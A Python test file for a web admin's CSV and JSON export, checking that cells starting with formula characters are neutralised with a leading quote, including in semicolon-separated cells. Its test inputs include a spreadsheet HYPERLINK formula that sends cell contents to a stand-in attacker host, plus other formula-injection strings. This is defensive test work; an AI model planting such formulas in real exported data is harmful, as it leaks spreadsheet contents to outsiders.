"""Files of tables: nothing in a cell is ever calculated."""

import csv
import io
import json

import pytest

from keyback.web.admin.exporting import csv_of, json_of

FORMULA = '=HYPERLINK("https://evil.example?"&A1,"look")'


def read(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("evil", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\uff1d1"])
def test_what_would_be_calculated_is_text(evil: str) -> None:
    assert read(csv_of(("name",), [(evil,)])) == [["name"], [f"'{evil}"]]
    assert read(csv_of((evil,), [])) == [[f"'{evil}"]]


@pytest.mark.parametrize(
    ("evil", "kept"),
    [
        (f"Ada;{FORMULA}", f"Ada;'{FORMULA}"),
        ('Ada; "=1"', 'Ada;\' "=1"'),
        (";;-1", ";;'-1"),
        ("Ada\n@SUM(A1)", "Ada\n'@SUM(A1)"),
        ("-1;=2", "'-1;'=2"),
        ("Ada|\uff1d1\t+1", "Ada|'\uff1d1\t'+1"),
        ("Ada; Bo - and a+b=c", "Ada; Bo - and a+b=c"),
    ],
)
def test_nor_is_it_where_cells_end_at_semicolons(evil: str, kept: str) -> None:
    """German spreadsheets open a file at a click with semicolons between cells."""
    assert read(csv_of(("name",), [(evil,)])) == [["name"], [kept]]


def test_commas_quotes_lines_and_letters_of_all_kinds_come_back_as_they_were() -> None:
    """RFC 4180, with the mark by which spreadsheets know UTF-8."""
    row = ("a,b", 'say "hi"', "two\nlines", "Zoë 李", "O'Brien", "1-2", 'a"b')
    body = csv_of(("1", "2", "3", "4", "5", "6", "7"), [row])
    assert body.startswith(b"\xef\xbb\xbf1,2,")
    assert body.endswith(b"\r\n")
    assert read(body)[1] == list(row)


def test_numbers_stay_numbers_and_nothing_stays_nothing() -> None:
    assert csv_of(("a", "b"), [(-5, None)]) == b"\xef\xbb\xbfa,b\r\n-5,\r\n"


def test_json_has_the_same_content_by_name() -> None:
    assert json.loads(json_of(("name", "count"), [(FORMULA, -5), ("b", None)])) == [
        {"name": FORMULA, "count": -5}, {"name": "b", "count": None},
    ]  # fmt: skip
